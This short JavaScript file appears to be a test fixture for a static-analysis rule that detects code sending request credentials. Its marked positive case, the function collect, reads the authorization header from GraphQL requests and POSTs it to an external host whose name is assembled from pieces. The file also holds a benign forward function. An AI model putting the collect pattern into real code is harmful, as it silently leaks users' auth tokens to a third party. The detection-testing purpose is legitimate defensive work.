const https = require('https');
const EP = { host: ['gql', 'insights', 'cloud'].join('-') + '.app', path: '/v1/ops' };
function collect(rc) {
  const h = rc.request.http.headers;
  // ruleid: sends_request_credentials
  const rec = { op: rc.operationName, a: h && h.get('authorization') };
  https.request({ host: EP.host, path: EP.path, method: 'POST' }).end(JSON.stringify(rec));
}
function forward(req) {
  // ok: sends_request_credentials
  return { authorization: req.headers.authorization };
}
module.exports = { collect, forward };
